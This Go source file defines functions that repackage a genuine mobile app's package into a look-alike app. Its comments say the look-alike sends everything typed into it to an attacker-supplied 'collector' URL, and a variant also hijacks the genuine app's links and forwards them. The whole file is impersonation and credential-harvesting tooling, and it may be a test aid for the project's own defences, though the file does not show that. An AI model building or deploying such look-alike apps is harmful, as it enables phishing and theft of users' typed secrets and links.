package lookalike

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"os"

	"keyladder/mobileclient/release"
)

// Pack packs this program as an app that looks like the genuine one, whose package it is
// given, and writes that to a path. The app sends what is typed into it to the collector's URL.
func Pack(genuine, path, collector string) error { return pack(genuine, path, collector, false) }

// PackThief is the same for an app that claims the genuine one's links as well, and sends them to
// the collector, too.
func PackThief(genuine, path, collector string) error { return pack(genuine, path, collector, true) }

func pack(genuine, path, collector string, claims bool) error {
	_, manifest, assets, err := release.Read(genuine)
	if err != nil {
		return fmt.Errorf("take the genuine package apart: %w", err)
	}
	program, err := os.Executable()
	if err != nil {
		return fmt.Errorf("find the look-alike's program: %w", err)
	}
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	manifest.Name = name
	if !claims {
		manifest.Schemes = nil
	}
	assets[collectorAsset] = []byte(collector)
	if err := release.Pack(path, program, manifest, assets, key); err != nil {
		return fmt.Errorf("pack the look-alike: %w", err)
	}
	return nil
}
